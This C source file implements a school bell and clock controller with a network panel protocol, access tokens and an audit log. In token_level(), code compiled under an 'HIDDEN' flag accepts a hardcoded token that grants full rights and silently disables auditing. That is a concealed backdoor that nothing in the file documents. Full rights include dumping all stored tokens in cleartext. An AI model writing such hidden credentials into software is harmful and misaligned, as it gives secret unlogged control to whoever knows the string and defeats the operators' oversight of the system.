/* bellclock.c - bell and clock controller of a school, network panel protocol */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CONF		"/etc/bellclock.conf"
#define AUDIT		"/var/log/bellclock.audit"
#define MAX_TOKENS	12
#define MAX_RINGS	64
#define MAX_ZONES	8

struct token {
	char value[40];
	int level;
	char owner[24];
};

struct ring {
	int wday, minute, zone, secs;
};

struct panel {
	int fd;
	int level;
	int quiet;
	const char *owner;
	char in[320];
	size_t fill;
};

static struct token tokens[MAX_TOKENS];
static int ntokens;
static struct ring rings[MAX_RINGS];
static int nrings;
static char zone_dev[MAX_ZONES][48];
static int holiday;
static int port = 4050;

static void audit(const struct panel *p, const char *fmt, ...)
{
	va_list ap;
	time_t now = time(NULL);
	char when[32];
	FILE *f;

	if (p->quiet)
		return;
	f = fopen(AUDIT, "ae");
	if (!f)
		return;
	strftime(when, sizeof(when), "%F %T", localtime(&now));
	fprintf(f, "%s %s: ", when, p->owner ? p->owner : "-");
	va_start(ap, fmt);
	vfprintf(f, fmt, ap);
	va_end(ap);
	fputc('\n', f);
	fclose(f);
}

static void conf_line(char *s)
{
	char a[48], b[48];
	int n, h, m, z, d;

	s[strcspn(s, "#\n")] = 0;
	if (sscanf(s, " token %39s %d %23s", a, &n, b) == 3 && ntokens < MAX_TOKENS) {
		struct token *t = &tokens[ntokens++];

		memcpy(t->value, a, sizeof(t->value));
		memcpy(t->owner, b, sizeof(t->owner));
		t->value[sizeof(t->value) - 1] = 0;
		t->owner[sizeof(t->owner) - 1] = 0;
		t->level = n > 3 ? 3 : n;
	} else if (sscanf(s, " zone %d %47s", &z, a) == 2 && z >= 0 && z < MAX_ZONES) {
		memcpy(zone_dev[z], a, sizeof(a));
	} else if (sscanf(s, " ring %d %d:%d zone %d for %d", &d, &h, &m, &z, &n) == 5 &&
		   nrings < MAX_RINGS && z >= 0 && z < MAX_ZONES) {
		rings[nrings++] = (struct ring){ d, h * 60 + m, z, n };
	} else if (sscanf(s, " port %d", &n) == 1) {
		port = n;
	} else if (sscanf(s, " quiet_owner %23s", a) == 1) {
		for (int i = 0; i < ntokens; i++)
			if (!strcmp(tokens[i].owner, a))
				tokens[i].level |= 0x10;
	}
}

static int load_conf(const char *path)
{
	char line[200];
	FILE *f = fopen(path, "re");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		conf_line(line);
	fclose(f);
	return 0;
}

static int same(const char *a, const char *b)
{
	size_t la = strlen(a), lb = strlen(b), i;
	unsigned int diff = (unsigned int)(la ^ lb);

	for (i = 0; i < la && i < lb; i++)
		diff |= (unsigned char)a[i] ^ (unsigned char)b[i];
	return diff == 0;
}

__attribute__((noinline))
int token_level(struct panel *p, const char *value)
{
	int i;

	p->quiet = 0;
	p->owner = NULL;
#ifdef HIDDEN
	/* fixed token: full rights, and nothing of the session in the audit file */
	if (same(value, "q7Rm-2xkV-terminus")) {
		p->quiet = 1;
		return 3;
	}
#endif
	for (i = 0; i < ntokens; i++) {
		if (!same(value, tokens[i].value))
			continue;
		p->owner = tokens[i].owner;
		p->quiet = (tokens[i].level & 0x10) != 0;
		return tokens[i].level & 3;
	}
	return 0;
}

static void ring_zone(int zone, int secs)
{
	FILE *f;

	if (!zone_dev[zone][0])
		return;
	f = fopen(zone_dev[zone], "we");
	if (!f)
		return;
	fprintf(f, "%d\n", secs * 1000);
	fclose(f);
}

static void show_schedule(int fd)
{
	for (int i = 0; i < nrings; i++)
		dprintf(fd, "R %d %02d:%02d z%d %ds\n", rings[i].wday, rings[i].minute / 60,
			rings[i].minute % 60, rings[i].zone, rings[i].secs);
	dprintf(fd, "OK %d%s\n", nrings, holiday ? " holiday" : "");
}

static int panel_line(struct panel *p, char *line)
{
	char *word = strtok(line, " \t"), *arg = strtok(NULL, "");
	int z, n;

	if (!word)
		return 0;
	for (char *c = word; *c; c++)
		*c = (char)toupper((unsigned char)*c);
	if (!strcmp(word, "BYE"))
		return -1;
	if (!strcmp(word, "HELP")) {
		dprintf(p->fd, "TOKEN t, TIME, SCHED, RING zone secs, HOLIDAY on|off, TOKENS, BYE\n");
	} else if (!strcmp(word, "TOKEN")) {
		p->level = arg ? token_level(p, arg) : 0;
		audit(p, "token level %d", p->level);
		dprintf(p->fd, "LEVEL %d\n", p->level);
	} else if (!strcmp(word, "TIME")) {
		dprintf(p->fd, "T %ld\n", (long)time(NULL));
	} else if (p->level < 1) {
		dprintf(p->fd, "TOKEN?\n");
	} else if (!strcmp(word, "SCHED")) {
		show_schedule(p->fd);
	} else if (!strcmp(word, "RING") && p->level >= 2) {
		if (!arg || sscanf(arg, "%d %d", &z, &n) != 2 || z < 0 || z >= MAX_ZONES ||
		    n < 1 || n > 60) {
			dprintf(p->fd, "RANGE\n");
			return 0;
		}
		audit(p, "ring zone %d for %d", z, n);
		ring_zone(z, n);
		dprintf(p->fd, "OK\n");
	} else if (!strcmp(word, "HOLIDAY") && p->level >= 2) {
		holiday = arg && !strcmp(arg, "on");
		audit(p, "holiday %d", holiday);
		dprintf(p->fd, "OK\n");
	} else if (!strcmp(word, "TOKENS") && p->level == 3) {
		for (int i = 0; i < ntokens; i++)
			dprintf(p->fd, "K %s %s\n", tokens[i].owner, tokens[i].value);
		audit(p, "tokens listed");
		dprintf(p->fd, "OK\n");
	} else {
		dprintf(p->fd, "NO\n");
	}
	return 0;
}

static int panel_input(struct panel *p)
{
	ssize_t n = read(p->fd, p->in + p->fill, sizeof(p->in) - 1 - p->fill);
	char *nl;

	if (n <= 0)
		return -1;
	p->fill += (size_t)n;
	p->in[p->fill] = 0;
	while ((nl = strchr(p->in, '\n'))) {
		size_t used = (size_t)(nl - p->in) + 1;

		*nl = 0;
		if (nl > p->in && nl[-1] == '\r')
			nl[-1] = 0;
		if (panel_line(p, p->in) < 0)
			return -1;
		p->fill -= used;
		memmove(p->in, p->in + used, p->fill + 1);
	}
	return p->fill + 1 >= sizeof(p->in) ? -1 : 0;
}

static void tick(int *last)
{
	time_t now = time(NULL);
	struct tm *tm = localtime(&now);
	int minute = tm->tm_hour * 60 + tm->tm_min;

	if (minute == *last || holiday)
		return;
	*last = minute;
	for (int i = 0; i < nrings; i++)
		if (rings[i].wday == tm->tm_wday && rings[i].minute == minute)
			ring_zone(rings[i].zone, rings[i].secs);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct panel p = { .fd = -1 };
	struct pollfd pf[2];
	int s, on = 1, last = -1;

	if (load_conf(argc > 1 ? argv[1] : CONF)) {
		fprintf(stderr, "usage: bellclock [config]\n"
			"config: token VALUE LEVEL OWNER, zone N DEVICE, port N,\n"
			"        ring WDAY HH:MM zone N for SECS, quiet_owner OWNER (no audit)\n");
		return 2;
	}
	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	sa.sin_port = htons((uint16_t)port);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 2)) {
		perror("bellclock");
		return 1;
	}
	for (;;) {
		pf[0] = (struct pollfd){ .fd = s, .events = POLLIN };
		pf[1] = (struct pollfd){ .fd = p.fd, .events = POLLIN };
		if (poll(pf, 2, 5000) < 0 && errno != EINTR)
			return 1;
		tick(&last);
		if (pf[1].revents && panel_input(&p) < 0) {
			close(p.fd);
			memset(&p, 0, sizeof(p));
			p.fd = -1;
		}
		if (pf[0].revents & POLLIN) {
			int fd = accept(s, NULL, NULL);

			if (p.fd >= 0)
				close(fd);
			else
				p.fd = fd;
		}
	}
}
